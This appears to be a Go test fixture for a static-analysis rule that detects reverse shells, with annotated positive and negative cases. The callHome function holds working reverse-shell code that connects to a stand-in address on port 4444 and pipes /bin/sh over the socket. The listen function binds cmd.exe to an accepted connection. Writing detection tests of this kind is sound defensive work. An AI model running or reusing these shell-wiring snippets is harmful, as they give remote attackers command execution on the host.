package main

import (
	"net"
	"os"
	"os/exec"
)

func callHome() {
	conn, err := net.Dial("tcp", "203.0.113.9:4444")
	if err != nil {
		return
	}
	cmd := exec.Command("/bin/sh")
	// ruleid: go-reverse-shell
	cmd.Stdin = conn
	cmd.Stdout = conn
	cmd.Run()
}

func listen(listener net.Listener) {
	conn, _ := listener.Accept()
	cmd := exec.Command("cmd.exe")
	// ruleid: go-reverse-shell
	cmd.Stdin, cmd.Stdout, cmd.Stderr = conn, conn, conn
	cmd.Run()
}

func local() {
	cmd := exec.Command("/bin/sh", "build.sh")
	// ok: go-reverse-shell
	cmd.Stdin = os.Stdin
	cmd.Run()
	conn, _ := net.Dial("tcp", "localhost:80")
	zip := exec.Command("gzip")
	// ok: go-reverse-shell
	zip.Stdin = conn
	zip.Run()
}
